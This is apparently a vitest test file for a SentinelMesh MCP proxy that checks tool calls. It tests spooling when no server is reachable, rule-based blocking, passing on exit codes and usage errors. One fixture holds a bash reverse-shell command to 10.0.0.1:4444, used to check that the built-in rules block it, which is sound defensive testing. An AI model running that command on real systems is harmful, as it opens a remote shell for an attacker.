import { spawn } from 'node:child_process'
import { mkdtempSync, readdirSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, beforeAll, expect, test } from 'vitest'

const PROGRAM = join(import.meta.dirname, '../dist/sentinelmesh-mcp.js')
const CALL =
  '{"jsonrpc":"2.0","id":1,"method":"tools/call","params":{"name":"run","arguments":{"text":"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1"}}}\n'
/** Echoes each request as the text of a tool result. */
const ECHO = `
  require('node:readline').createInterface({ input: process.stdin }).on('line', (line) =>
    console.log(JSON.stringify({ jsonrpc: '2.0', id: JSON.parse(line).id, result: { content: [{ type: 'text', text: 'ran' }] } })))`

let folder: string
beforeAll(() => (folder = mkdtempSync(join(tmpdir(), 'sentinelmesh-mcp-'))))
afterAll(() => rmSync(folder, { recursive: true }))

/** Runs the built program without a SentinelMesh server: nothing listens at its address. */
async function run(args: readonly string[], input = '') {
  const env = { SENTINELMESH_URL: 'http://127.0.0.1:9', SENTINELMESH_API_KEY: 'key', XDG_STATE_HOME: folder }
  const child = spawn(process.execPath, [PROGRAM, ...args], { env })
  const text = { stdout: '', stderr: '' }
  child.stdout.on('data', (chunk) => (text.stdout += String(chunk)))
  child.stderr.on('data', (chunk) => (text.stderr += String(chunk)))
  child.stdin.end(input)
  const code = await new Promise<number | null>((resolve) => child.once('close', resolve))
  return { code, ...text }
}

const before = (...options: readonly string[]) => run([...options, '--', process.execPath, '-e', ECHO], CALL)

test('without a server, calls pass and are spooled', async () => {
  const { code, stdout, stderr } = await before()
  expect({ code, result: JSON.parse(stdout) }).toEqual({
    code: 0,
    result: { jsonrpc: '2.0', id: 1, result: { content: [{ type: 'text', text: 'ran' }] } },
  })
  expect(stderr).toContain('calls go through unjudged and are reported later')
  expect(readdirSync(join(folder, 'sentinelmesh/mcp'))).not.toEqual([])
})

test('without a server, the built-in rules block an attack with `--fail rules`', async () => {
  const { code, stdout } = await before('--fail', 'rules')
  expect({ code, result: JSON.parse(stdout) }).toMatchObject({
    code: 0,
    result: {
      id: 1,
      result: { isError: true, content: [{ text: expect.stringMatching(/^Blocked by SentinelMesh: .*sm-cmd-001/) }] },
    },
  })
})

test('the program exits with the exit code of the MCP server', async () => {
  expect(await run(['--', process.execPath, '-e', 'process.exit(7)'])).toMatchObject({ code: 7 })
  expect(await run(['--', 'no-such-program-anywhere'])).toMatchObject({
    code: 127,
    stderr: expect.stringContaining('no-such-program-anywhere cannot be started (ENOENT).'),
  })
})

test('wrong usage gives an explanation and exit code 2', async () => {
  expect(await run(['--budget', '0', '--', 'true'])).toEqual({
    code: 2,
    stdout: '',
    stderr: 'sentinelmesh: --budget has to be a whole number of milliseconds from 1 to 60000.\n',
  })
})
